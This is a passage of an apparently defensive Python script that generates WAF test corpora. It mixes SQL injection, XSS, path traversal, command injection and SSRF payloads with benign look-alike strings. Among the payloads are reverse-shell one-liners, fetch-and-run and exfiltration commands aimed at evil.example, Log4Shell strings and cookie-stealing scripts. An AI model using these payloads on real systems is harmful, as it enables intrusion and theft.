#!/usr/bin/env python3
"""Builds the WAF corpora (one JSON object per line) from the payload families below.

Run: python3 corpus/waf/generate.py   (rewrites corpus/waf/*.jsonl)

Every payload was written for this corpus. Each family names where the idea came from (a public
guide or advisory describing the technique); no payload list was copied. Each request carries
`decoded` (the payload as the application sees it), `category`, `expect` and `source`.

Placements rotate through query string, form body, JSON body, headers and cookies so that every
decoder is exercised; some payloads are additionally double-encoded or mixed-case.
"""
import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))


def q(s):
    return urllib.parse.quote(s, safe="")


def placements(idx, payload, param="q"):
    """The idx-th way of carrying payload."""
    k = idx % 5
    if k == 0:
        return {"method": "GET", "url": f"/search?{param}={q(payload)}"}
    if k == 1:
        return {"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                "body": f"name=alice&{param}={q(payload)}&submit=Send"}
    if k == 2:
        return {"method": "POST", "url": "/api/items", "headers": {"Content-Type": "application/json"},
                "body": json.dumps({"item": {param: payload, "qty": 1}})}
    if k == 3:
        return {"method": "GET", "url": f"/products?sort=asc&{param}={q(payload).replace('%20', '+')}"}
    return {"method": "GET", "url": "/account", "headers": {"Cookie": f"theme=dark; pref={q(payload)}"}}


def entries(category, families, expect, placement=placements):
    out = []
    n = 0
    for source, payloads in families:
        for p in payloads:
            req = placement(n, p)
            req.update({"id": f"{category}-{n + 1:03d}", "category": category, "expect": expect, "decoded": p, "source": source})
            out.append(req)
            n += 1
    return out


SQLI = [
    ("OWASP WSTG-INPV-05: tautology in a string context", [
        "' or '1'='1", "' OR 'x'='x' -- ", "admin' or 1=1#", "x' or 2>1 or 'a'='b", "' or ''='", "1' and '1'='1",
        "') or ('a'='a", "\" or \"\"=\"", "' OR username LIKE '%", "' or 5 between 1 and 9 -- -",
    ]),
    ("OWASP WSTG-INPV-05: numeric context boolean conditions", [
        "1 or 1=1", "1) or (1=1", "-1 OR 3>2", "42 AND 1=1 -- ", "7 or true", "0 || 1=1",
    ]),
    ("OWASP WSTG-INPV-05: comment truncation (authentication bypass)", [
        "admin'--", "admin' #", "root')-- -", "admin'/*", "bob\")--",
    ]),
    ("OWASP WSTG-INPV-05 / PortSwigger SQLi cheat sheet: UNION-based extraction", [
        "1 union select null,null,null--", "' UNION ALL SELECT username, password FROM users--",
        "-7 UNION SELECT 1,@@version,3", "x') union select table_name,2 from information_schema.tables-- ",
        "1/**/UNION/**/SELECT/**/name,pass/**/FROM/**/members", "1 /*!50000union*/ /*!50000select*/ 1,2",
        "0 uNiOn sElEcT user(),database()", "' union distinct select 'a','b' -- -",
    ]),
    ("OWASP WSTG-INPV-05: stacked queries", [
        "1; DROP TABLE accounts", "'; DELETE FROM orders WHERE 'a'='a", "5; exec master..xp_cmdshell 'ping 10.0.0.1'--",
        "'; INSERT INTO admins VALUES('eve','x');--", "1;SHUTDOWN--", "2; update users set role='admin' where id=2--",
        "'; declare @q varchar(99); set @q='x'; exec(@q)--",
    ]),
    ("PortSwigger SQLi cheat sheet: time delays per database", [
        "1 AND SLEEP(5)", "' and sleep(3) and '1'='1", "1; WAITFOR DELAY '0:0:5'--", "' || pg_sleep(4)--",
        "1 and benchmark(5000000,md5('x'))", "x' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ",
        "1) AND 4411=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND (1=1",
    ]),
    ("PortSwigger SQLi cheat sheet: error-based extraction", [
        "1 AND extractvalue(1,concat(0x7e,version()))", "' and updatexml(null,concat(0x3a,user()),null)-- -",
        "1 AND 1=CONVERT(int,(SELECT @@version))", "' AND 7=CAST((SELECT current_database()) AS int)--",
        "1 and (select 1 from(select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    ]),
    ("OWASP WSTG-INPV-05: ORDER BY / GROUP BY column probing", [
        "1 ORDER BY 5--", "' order by 3 -- -", "x' GROUP BY id HAVING 1=1--", "1 procedure analyse()",
    ]),
    ("sqlmap technique classes: boolean-blind inference", [
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "' AND (SELECT COUNT(*) FROM sysobjects)>0 AND 'q'='q", "1 AND MID(VERSION(),1,1)='5'",
        "3' AND 2*3*8=6*8 AND 'Ab1'='Ab1",
    ]),
    ("PortSwigger SQLi cheat sheet: string building, conditional subqueries, URL-typed spaces", [
        "2 AND 1=2 UNION SELECT CHAR(114)+CHAR(111)+CHAR(111)+CHAR(116)", "9 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "5'+AND+'7'='7", "x'||(SELECT CASE WHEN (2>1) THEN pg_sleep(3) ELSE pg_sleep(0) END)||'",
        "' AND (SELECT 'z' FROM accounts LIMIT 1)='z", "8 and ord(mid(user(),1,1))>100",
    ]),
    ("OWASP WSTG-INPV-05: statement endings, mixed case, comment-split operators", [
        "';--", "1'/**/OR/**/1=1--", "' oR '1'='1", "9999 or 1 between 0 and 2", "1 and exists(select * from users)",
        "-1' or 1 in (select 1)--",
    ]),
]

XSS = [
    ("OWASP XSS Filter Evasion Cheat Sheet: script elements", [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "\"><script>document.location='//x/'+document.cookie</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>fetch('/x')</script>",
    ]),
    ("PortSwigger XSS cheat sheet: event handlers", [
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>", "<body onload=prompt(1)>",
        "<details open ontoggle=confirm(1)>", "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
        "<video><source onerror=\"javascript:alert(1)\">", "<div onpointerover=alert(1)>hover</div>",
        "<iMg SrC=1 OnErRoR=alert`1`>", "<img\tsrc=x\nonerror=alert(1)>", "<marquee onstart=alert(1)>",
    ]),
    ("OWASP XSS Filter Evasion Cheat Sheet: attribute breakout", [
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "x\" onclick=alert(1) y=\"",
        "\" style=\"width:expression(alert(1))",
    ]),
    ("OWASP XSS Filter Evasion Cheat Sheet: javascript: and data: URLs", [
        "javascript:alert(1)", "JaVaScRiPt:alert(document.cookie)", "java\tscript:alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">y</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "javascript://%0aalert(1)", "<form action=javascript:alert(1)><input type=submit>",
    ]),
    ("HTML5 Security Cheatsheet: SVG and MathML vectors", [
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
    ]),
    ("PortSwigger research: JavaScript string context breakouts", [
        "';alert(1);//", "\"-alert(1)-\"", "'};alert(document.cookie);{'", "\\';alert(String.fromCharCode(88));//",
        "</script><script>alert(1)</script>",
    ]),
    ("PortSwigger research (Server-Side Template Injection, AngularJS sandbox escapes): template expressions", [
        "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${7*191}", "#{7*7}", "<%= 7*7 %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{$on.constructor('alert(1)')()}}",
    ]),
    ("OWASP XSS Filter Evasion Cheat Sheet: embedding elements", [
        "<iframe src=//evil.example>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=import href=//evil.example/x>",
    ]),
    ("OWASP XSS Filter Evasion Cheat Sheet: malformed attributes and indirect calls", [
        "<img src= onerror=\"confirm(7)\">", "<body onpageshow!#$=alert(3)>", "\";x=confirm,x(5)//", "<svg><animate onend=alert(4) dur=1s>",
        "<a href=\"jav&#x61;script&colon;alert(6)\">z</a>",
    ]),
]

LFI = [
    ("OWASP WSTG-ATHZ-01: dot-dot-slash traversal", [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../../../boot.ini", "../../app/config/database.yml",
        "....//....//....//etc/shadow", "..;/..;/WEB-INF/web.xml", "/var/www/../../etc/hosts", "..././..././etc/group",
    ]),
    ("OWASP Path Traversal page: encoded separators", [
        "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%252f..%252f..%252fetc/passwd",
        "%252e%252e%252f%252e%252e%252fwindows/win.ini", "..%5c..%5c..%5cwindows%5csystem.ini",
    ]),
    ("CVE-2000-0884 (IIS) and RFC 3629: overlong UTF-8 and %u encodings", [
        "..%c0%af..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2215..%u2215etc/passwd",
        "%u002e%u002e/%u002e%u002e/etc/passwd",
    ]),
    ("OWASP WSTG-CONF-04 / WSTG-CONF-05: sensitive files by absolute path", [
        "/etc/passwd", "/proc/self/environ", "C:\\Windows\\win.ini", "/root/.ssh/id_rsa", "/var/log/apache2/access.log",
        "file=/etc/shadow", "/home/app/.aws/credentials", "/proc/self/cmdline",
    ]),
    ("OWASP WSTG-CONF-04: source control and environment files", [
        "../.git/config", "/.env", "../../.htpasswd", "../WEB-INF/web.xml", "/app/.env.production", "../../wp-config.php",
    ]),
    ("PHP manual, supported protocols and wrappers: stream wrappers in include parameters", [
        "php://filter/convert.base64-encode/resource=index.php", "php://input", "phar://uploads/x.jpg/shell",
        "expect://id", "zip://archive.zip#shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
    ]),
    ("IIS Unicode normalisation advisories (MS00-078 family): lookalike separators", [
        "..%u2216..%u2216boot.ini", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    ]),
]
LFI_ENCODED = {  # payloads that already carry their own encoding: placed raw, decoded form given
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%252f..%252f..%252fetc/passwd",
    "%252e%252e%252f%252e%252e%252fwindows/win.ini", "..%5c..%5c..%5cwindows%5csystem.ini",
    "..%c0%af..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2215..%u2215etc/passwd",
    "%u002e%u002e/%u002e%u002e/etc/passwd", "..%u2216..%u2216boot.ini", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
}

RCE = [
    ("OWASP WSTG-INPV-12: separators with commands", [
        "127.0.0.1; cat /etc/passwd", "x | id", "file.txt && whoami", "1 || uname -a", "a; ls -la /", "8.8.8.8 & net user",
        "foo\nid", "x;wget http://evil.example/s.sh -O /tmp/s", "1|nc -e /bin/sh 10.0.0.5 4444", "; rm -rf /tmp/x",
        "abc & type C:\\Windows\\win.ini", "q; ping -c 3 10.1.1.1", "z;sleep 10",
    ]),
    ("OWASP Command Injection page: substitution", [
        "$(whoami)", "`id`", "name=$(cat /etc/hostname)", "x`uname -a`y", "$(curl -s http://evil.example/x|sh)",
    ]),
    ("Commonly documented shell filter evasions ($IFS, quotes, globbing)", [
        ";cat${IFS}/etc/passwd", "|w'h'o'am'i", ";c\\at /etc/hosts", "1;/???/c?t /etc/passwd", ";{cat,/etc/passwd}",
        "a;$@id", "x|/bin/b\"a\"sh -c id", ";sleep${IFS}7", "|cat$IFS/etc/issue", "host;w'h'o'a'm'i'",
        ";${PATH:0:1}bin${PATH:0:1}id", "|id;", "x;ping${IFS}-c${IFS}3${IFS}127.0.0.1", ";cat</etc/passwd",
    ]),
    ("Reverse-shell one-liners described in incident reports", [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; python3 -c 'import socket,os;os.system(\"id\")'",
        "| perl -e 'exec \"/bin/sh\"'", "; php -r 'system(\"id\");'", "& powershell -enc SQBFAFgA",
        "| cmd.exe /c dir", "curl -d @/etc/passwd http://evil.example/", "wget -q -O- http://evil.example/p | sh",
    ]),
    ("CVE-2014-6271 (Shellshock)", [
        "() { :; }; /bin/cat /etc/passwd", "() { _; } >_[$($())] { id; }",
    ]),
    ("CVE-2021-44228 (Log4Shell) and expression-language injection", [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/x}", "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ]),
    ("OWASP Code Injection page: interpreter calls", [
        "<?php system($_GET['c']); ?>", "__import__('os').system('id')", "eval($_POST['x']);", "require('child_process').exec('id')",
    ]),
]

SSRF = [
    ("AWS EC2 instance metadata documentation: IMDS endpoints", [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/user-data",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials",
    ]),
    ("Google Cloud and Azure metadata server documentation", [
        "http://metadata.google.internal/computeMetadata/v1/project/project-id", "http://metadata/computeMetadata/v1/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://100.100.100.200/latest/meta-data/",
    ]),
    ("Orange Tsai, A New Era of SSRF (Black Hat 2017): alternative IP notations", [
        "http://2852039166/latest/", "http://0xA9FEA9FE/", "http://0251.0376.0251.0376/", "http://127.1/admin",
        "http://0x7f000001:8080/", "http://017700000001/", "http://[::ffff:a9fe:a9fe]/", "http://[::1]:6379/",
    ]),
    ("Orange Tsai, A New Era of SSRF: URL parser confusion", [
        "http://trusted.example@127.0.0.1/", "http://trusted.example#@10.0.0.5/", "http://127.0.0.1.nip.io/",
        "http://localhost:2375/containers/json", "https://internal.localhost/",
    ]),
    ("OWASP SSRF Prevention Cheat Sheet: dangerous schemes", [
        "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "file://localhost/c:/windows/win.ini",
        "ldap://10.0.0.3/dc=corp", "tftp://10.0.0.9/config",
    ]),
    ("OWASP SSRF Prevention Cheat Sheet: internal services", [
        "http://127.0.0.1:8500/v1/agent/self", "http://192.168.0.1/admin", "http://10.0.0.2:9200/_cat/indices", "http://172.16.0.10/",
        "http://0.0.0.0:22/",
    ]),
    ("Orange Tsai, A New Era of SSRF: Unicode digits that host parsers normalise", [
        "http://①②⑦.⓪.⓪.①:8080/", "http://１６９．２５４．１６９．２５４/",
    ]),
]


def ssrf_place(i, p):
    names = ["url", "callback", "webhook", "image_url", "next"]
    return placements(i, p, param=names[i % len(names)])


BENIGN_TEXT = [
    # Names and apostrophes (written for this corpus).
    "O'Reilly", "Tim O'Reilly", "D'Angelo's Pizza", "Miles O'Brien", "Shaquille O'Neal", "L'Oréal Paris", "Jean-Luc d'Artagnan",
    "It's 5 o'clock somewhere", "Don't forget the kids' lunches", "We're open 'til 9 tonight", "rock 'n' roll",
    "The students' or teachers' union meets Monday", "I said 'yes' or 'no', not 'maybe'", "5' 10\" tall",
    # Prose with SQL words.
    "Please select a plan that fits your team", "Union Street 42, San Francisco", "Drop by anytime; we're here",
    "Select the items from the list and update the order", "I want to delete my account", "Where can I order by phone?",
    "Tom and Jerry or Mickey and Minnie", "Insert tab A into slot B", "The union select committee meets on Friday",
    "The table is set for dinner; drop the napkins on the left", "Update: the sleep study starts at 8", "grant writing workshop",
    "1 or 2 teaspoons of sugar", "true or false: the earth is round", "Ordered by date, newest first", "between 5 and 10 items",
    "Having fun at the beach; wish you were here", "Limit 2 per customer", "Exec summary attached", "Benchmark results for Q3",
    "Sleep well!", "version 2.1 (beta) release notes", "Choose 1 or 2 and press enter", "Is null the same as zero?",
    # Prose with semicolons and shell words.
    "I went home; cat was hungry", "Bring snacks; sleep bags are provided", "Note: id required at the door; cash only",
    "Meeting moved to 3pm; ping me if you can't make it", "Lunch at noon; then find the keys", "Ready? Set; go!",
    "Milk, eggs, bread; also cheese & crackers", "Fish & chips | salad | soup", "Rock | Paper | Scissors",
    "Research & development; more info to follow", "Date: 2024-05-01; time: 10:00", "Echo Park & Silver Lake",
    "We sort, head to the tail of the queue, and more", "Yes | No | Maybe", "Tom & Jerry",
    # Paths and URLs that are fine.
    "docs/getting-started.md", "images/2024/cat.png", "https://example.com/products?id=42", "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "See the README in the project root", "C:\\Users\\alice\\Documents\\report.docx", "/api/v1/users/42/orders",
    "mailto:support@example.com", "The file is at ./build/output.log", "Edit your settings in the .env file",
    # Punctuation-heavy everyday text.
    "Price: $19.99 (was $24.99) — save 20%!", "Email me at bob@example.com; thanks!", "2 + 2 = 4, and 3 * 3 = 9",
    "a < b and c > d", "I <3 this product!!!", "50% off -- today only", "Question #3: what's 7*7?", "Wow!!! :) ;) :-(",
    "#hashtag #summer2024", "Call (555) 123-4567 ext. 89", "Use the = sign to assign values", "x = y + 1; y = 2",
    "Reply-To: team@example.org", "He said \"hello\" and left", "{\"note\": \"nested json as text\"}", "[1, 2, 3]",
    "It costs 5€ or £4", "ÄÖÜ äöü ß — Grüße aus München", "日本語のテキスト", "Emoji test 🎉🚀",
    "Turn on the lights at sunset", "the online store is open", "onion rings and fries",
    "Scripted Q&A session at 5pm", "javascript: the good parts is a book", "See expression (3) in the paper",
    "Fetch the ball, Rex!", "alert: storm warning for tonight", "Please confirm your email address",
    "Our prompt reply team", "My eval period ends soon", "The document will be written tomorrow",
]

# Support tickets, reviews, developer questions, identifiers and markup mentioned in text.
BENIGN_MORE = [
    '5\' x 7\' area rug, 12" pizza, 3/4" pipe',
    'Apt 1/2, 12 Main St.; Springfield',
    'x^2 + y^2 = z^2 (Pythagoras)',
    'color: red; background: url(img.png); margin: 0 auto;',
    'title:foo OR author:bar',
    '(a OR b) AND NOT c',
    '"exact phrase" -excluded +required',
    'Hi {{first_name}}, your code is {{code}}.',
    '<table><tr><td>Cell</td></tr></table>',
    '<h1>Welcome!</h1><p>Thanks for joining.</p>',
    "I'll be there @ 5; don't wait up.",
    '5 < 6 > 4',
    "He said: 'Select your option and press OK'.",
    'The wifi password is "lemon;tree&42".',
    'Order 66; execute it. (Star Wars joke)',
    "My dad's 'union' job ended in '98.",
    'SELECT * is bad practice; list columns explicitly.',
    'Run `npm run build && npm start` to launch.',
    'ssh user@host -p 2222',
    "Call 1-800-FLOWERS; they're open 24/7.",
    "In PHP, use $_GET['id'] carefully.",
    'The `exec` function is risky; prefer subprocess.run with a list.',
    'Please ping me on Slack when ready; thanks!',
    'We need 2-3 more chairs; also a table.',
    '"Rock & Roll" | "Jazz" | "Blues"',
    'Price: 1,299.99 USD (incl. VAT 20%)',
    'Step 1: cd ~/app; Step 2: run make',
    'What is the meaning of ../ in a URL?',
    'The time is 10:30; the date is 2024/05/01.',
    'Use -- to separate options from arguments.',
    "It's 'OR' not 'XOR' in this case.",
    'If x = 1 or y = 2 then z.',
    'Null pointer exception at line 42; stack trace attached.',
    "Please DROP me an email; I'll UPDATE the doc and SELECT a date.",
    "Hi team -- quick update: the deploy is done; please verify staging and let me know if anything's off.",
    '**Bold** and _italic_ in markdown; see [docs](https://docs.example.com/guide#setup).',
    '```python\nfor i in range(10):\n    print(i)\n```',
    'The SQL statement "DROP TABLE" is dangerous; never run it on prod.',
    "How do I write a query that selects all users where age > 21 and country = 'US'?",
    "Try: SELECT * FROM users WHERE age > 21 AND country = 'US';",
    'My favorite quote: "To be, or not to be" -- Shakespeare',
    "I'll be out Monday-Wednesday; Tom's covering for me.",
    "Email: jane.o'neil@example.com",
    'Use `git log --oneline | head -5` to see recent commits.',
    'Set PATH=$PATH:/usr/local/bin in your .bashrc',
    'The alert was triggered at 03:14 UTC; on-call acknowledged.',
    'Go to Settings > Privacy > Cookies and clear them.',
    '"It\'s not a bug, it\'s a feature" -- every developer ever',
    'Question: is 2^10 = 1024? Answer: yes.',
    "The function returns null if the user isn't found.",
    '<3 <3 <3',
    'x > 0 && y < 0 || z == 1',
    'I paid $5 for 2 coffees @ the cafe; great deal.',
    'Report: 45% of users selected option A; 30% option B.',
    'My script prints "Hello" then exits; why?',
    'He typed "rm -rf" by accident but nothing happened thankfully.',
    '"; DROP TABLE" jokes never get old (xkcd 327)',
    "Bobby Tables is my son's nickname",
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    '550e8400-e29b-41d4-a716-446655440000',
    '2024-03-15T10:30:00Z',
    '+1 (555) 010-9999',
    'dGhpcyBpcyBhIHRlc3Q=',
    'SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBiYXNlNjQgdGVzdA==',
    '../images/logo.png',
    './config/settings.json',
    'C:\\Program Files\\App\\app.exe',
    '/usr/local/share/doc',
    '~/Documents/resume.pdf',
    'report (final) [v2].docx',
    'The <script> tag is used to embed JavaScript.',
    "Don't put onclick handlers inline; use addEventListener.",
    'Use javascript:void(0) links sparingly.',
    '{"name": "test", "value": 1}',
    'a=1&b=2&c=3',
    'The union of the two sets is {1, 2, 3}.',
    'Order #1234 -- status: shipped; ETA: Friday.',
    "It's 20% off; use code SAVE20 at checkout!",
    '100% satisfaction or your money back',
    'We select only the best beans; union-made in Ohio.',
    "Dr. O'Malley's office hours: Mon/Wed 2-4pm",
    'The benchmark (sysbench) showed 1200 tps.',
    'Wait for it... sleep on it... then decide.',
    'cat videos are the best; dog videos second.',
    'cd into the folder, then ls to see files',
    'Enter your id and password below.',
    'The user-agent string identifies the browser.',
    'Call me at 555-0100 or email me; either works.',
    'Let x = 5; then x * 2 = 10.',
    'if (a < b) { swap(a, b); }',
    'SELECT your seat; ORDER your food; UPDATE your status.',
    "I'm a fan of Guns N' Roses and AC/DC.",
    "It's the students' choice: 'A' or 'B'.",
    'Rate us 1-5: 5 = excellent, 1 = poor.',
    'Visit http://192.168.1.1 to configure your router.',
    'Open http://localhost:3000 in your browser',
    'The meta-data for the file is stored separately.',
    'latest news: the union and management reached a deal',
    '%20 is a URL-encoded space',
    'Use %s for strings and %d for integers in printf.',
    'His handle is @john_doe; follow him!',
    'Rock, paper, scissors; best of three.',
    "O'Brien & Sons, est. 1920",
    'I can\'t login -- it says "user not found"; help?',
    'The command `whoami` prints your user name.',
    'Run ping 8.8.8.8 to check connectivity.',
    'The file /etc/hosts maps names to addresses.',
    'Use sleep(5) to wait five seconds in the script.',
    'Escape quotes like this: \\"hello\\" or \'it\\\'s\'',
    '<a href="https://example.com">link</a>',
    '<img src="photo.jpg" alt="A photo">',
    '<iframe> elements can embed other pages.',
    'The expression (a+b)*c evaluates first.',
    'Template syntax: {{ variable }} and {% if x %}...{% endif %}',
    'My name is Null. Yes, really.',
    'True or False? Null or Undefined?',
    "I'd like to order 2 pizzas; one with pepperoni and one with mushrooms.",
    "Can you select the blue one? It's my favorite.",
    'Meet me at the corner of Union and 5th Street.',
    "My name is Patrick O'Connor and I'm from Dublin.",
    "Drop me a line when you're free; I'll be around.",
    'What\'s the difference between "and" and "or" in logic?',
    'Please update my shipping address to 12 Main St., Apt #4.',
    'The script for the play is due Friday.',
    'Our team uses SQL Server and PostgreSQL.',
    "Delete this comment if it's inappropriate, please.",
    "I'm 100% sure the answer is 42 -- trust me.",
    'Use the -v flag for verbose output.',
    "Tonight's menu: soup & salad; dessert: pie.",
    'She said, "I can\'t believe it\'s not butter!"',
    "Where do I find the user's settings? Under Account > Settings.",
    'Hello, I need help with my account #12345. Thanks!',
    'The event runs from 9am-5pm; lunch is provided.',
    'The price went from $10 to $15 (a 50% increase).',
    "Shop at D'Agostino's for fresh produce.",
    'Looking for a 2-bedroom apartment near Union Square, <$3000/mo.',
    'Set the value to 1 or 0 depending on the state.',
    "C++ and C# are both languages; Java's another one.",
    'Please find attached the report (report_final_v2.pdf).',
    'Can\'t log in: "Invalid password" error every time.',
    'The cat sat on the mat; the dog slept.',
    "I'm looking for shoes size 10 1/2 or 11.",
    'Your order #A-1029 has shipped via UPS.',
    'Ping pong tournament this Friday at 6pm!',
    'Can you echo that back to me?',
    "He's the head of the sales department.",
    "We'll sleep at the hotel and drive back tomorrow.",
    'The file was saved as C:\\Users\\John\\Desktop\notes.txt',
    'Visit https://www.example.com/path/to/page?ref=newsletter&utm_source=email',
    'Contact: john.doe+test@example.co.uk',
    'function() { return x > 5 && y < 10; }',
    '<div class="container">Hello</div>',
    'SELECT * FROM products WHERE price < 100 ORDER BY price;',
    'Why does my query "SELECT id FROM users" return nothing?',
    'We\'re having an "all hands" meeting; attendance is mandatory.',
    '1 + 1 = 2',
    'The result was true or false depending on input.',
    'I love rock & roll; my husband prefers jazz.',
    "Who's on first? What's on second?",
    "That'll be $4.50, please.",
    'Version 3.2.1 fixes the "crash on exit" bug.',
    'I need to cancel my subscription; please confirm.',
    'Order by tomorrow for next-day delivery!',
    'Insert coin to continue.',
    'This is a <b>great</b> product!',
    'I give it 5/5 stars :)',
    "Don't use eval() in production code.",
    "Where's the nearest ATM?",
    'The union of sets A and B contains all elements.',
    'Union Pacific railroad',
    "New York's Union Square Greenmarket",
    'The table has 5 columns and 10 rows.',
    'Run "npm test" before committing.',
    'mkdir -p ~/projects && cd ~/projects',
    'Type your message here...',
    'Room 101; floor 3; building C',
    "Is it 5' or 6' tall?",
    "Joe's Bar & Grill, 123 Elm St.",
    'The book "Java: A Beginner\'s Guide" is on sale.',
    '1=1 is always true in math.',
    'The password must contain a number; a symbol; and a capital letter.',
    'Set-Cookie headers are explained in RFC 6265.',
    'To exit vim, type :wq and press enter.',
    '#include <stdio.h>',
    "SELECT name FROM employees WHERE department = 'Sales';",
    'Could you drop off the package at the front desk?',
    "I'm going to the union meeting tonight.",
    'Weather: 72°F, sunny; wind 5 mph.',
    '<p>Paragraph</p><p>Another</p>',
    'user@host:~$ ls -la',
    'What does /etc/hosts do on Linux?',
    'Edit /etc/nginx/nginx.conf and reload.',
    'The ../ notation means parent directory.',
    'http://localhost:8080 is where the dev server runs.',
    'My IP is 192.168.1.10 at home.',
    '${HOME} expands to your home directory.',
    '{{ user.name }} placeholder in the template',
    'Benchmark: 1000 requests in 2.3 seconds',
    'Sleep(1000) in the loop slows it down.',
    'The alert() function shows a dialog box.',
    'print("Hello, World!")',
    'window.location = "/home";',
    'echo "hello" | grep h',
    'x = a || b;',
    'a && b || c',
    'The URL was https://example.com/?q=1&x=2',
    "This is O'Reilly's best-selling title.",
    "It's a 'classic' -- everyone knows it.",
    "We can't select all; choose two.",
    "'Tis the season",
    "Rock'n'roll never dies; long live rock.",
]

BENIGN_CODE = [
    # Code snippets pasted into form fields (developer forums, support tickets).
    "SELECT name, email FROM users WHERE id = ?", "for (let i = 0; i < n; i++) { total += a[i]; }",
    "if x == 'a' or y == 'b': print(x)", "const q = \"SELECT * FROM t WHERE id = $1\";",
    "git commit -m 'fix typo'", "npm install --save lodash", "def add(a, b):\n    return a + b",
    "<b>bold</b> and <i>italic</i> text", "Use <br> for line breaks", "<p>Hello, world</p>",
    "function greet(name) { return 'Hi ' + name; }", "SELECT COUNT(*) FROM orders GROUP BY status",
    "docker run -p 8080:80 nginx", "curl is a tool for transferring data", "The ls command lists files",
    "Use `ls -la` to list files", "pip install requests==2.31.0", "import os\nprint(os.getcwd())",
    "my_list = [x * 2 for x in range(10)]", "body { color: #333; margin: 0 auto; }", "a.b.c = d ?? e",
    "UPDATE statements need a WHERE clause", "The ORDER BY clause sorts rows", "cat /proc/cpuinfo is useful for debugging",
    "Regex: ^[a-z0-9_-]{3,16}$", "x => x * 2", "map.get(key).orElse(null)", "println!(\"{}\", value);",
    "Hello {{name}}, your order {{order.id}} has shipped", "Dear ${firstName}, welcome", "Total: {{ total | currency }}",
    "import Button from '../../components/Button'", "cp ../../shared/config.example.yml config.yml then edit it",
]

BENIGN_JSON = [
    {"user": {"name": "Conan O'Brien", "email": "conan@example.com"}, "tags": ["comedy", "late-night"]},
    {"query": "union street apartments", "filters": {"price_max": 2500, "beds": 2}},
    {"comment": "Great product; would buy again. 5/5!", "rating": 5},
    {"title": "How to select a plan", "body": "First, compare the options; then pick one.", "draft": False},
    {"address": {"line1": "1 Union Square", "city": "New York"}, "notes": None},
    {"code": "SELECT id FROM t WHERE a = 1", "language": "sql", "explain": True},
    {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}], "coupon": "SAVE10"},
    {"bio": "Engineer at O'Reilly Media; loves rock 'n' roll & jazz", "links": ["https://oreilly.com"]},
    {"message": "Meet at 5; bring the id badge", "priority": "high"},
    {"html": "<p>Welcome <strong>back</strong></p>", "format": "rich"},
    {"path": "reports/2024/q1.pdf", "size": 12345},
    {"search": "or", "page": 1}, {"search": "and", "page": 2}, {"search": "select", "page": 3},
    {"password": "P@ss'w0rd;--!", "remember": True},
    {"description": "Drop-in replacement for the old table; no update needed", "version": "1.2.0"},
    {"expression": "a + b * (c - d)", "vars": {"a": 1, "b": 2}},
    {"callback_url": "https://hooks.example.com/notify", "events": ["order.created"]},
    {"greeting": "Hello {{name}}!", "locale": "en-US"},
    {"nested": {"deep": {"deeper": {"value": "It's fine"}}}},
]

BENIGN_HEADERS = [
    {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"},
    {"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
